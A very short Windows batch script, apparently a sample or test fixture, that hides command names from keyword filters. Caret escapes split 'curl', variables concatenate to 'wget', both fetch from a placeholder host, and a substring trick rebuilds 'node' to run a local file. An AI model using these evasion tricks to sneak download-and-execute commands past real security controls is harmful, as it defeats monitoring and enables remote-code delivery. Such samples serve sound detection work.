@echo off
c^u^r^l -s https://x.example
set a=wg
set b=et
%a%%b% https://x.example
set x=abnodexyz
%x:~2,4% run.txt
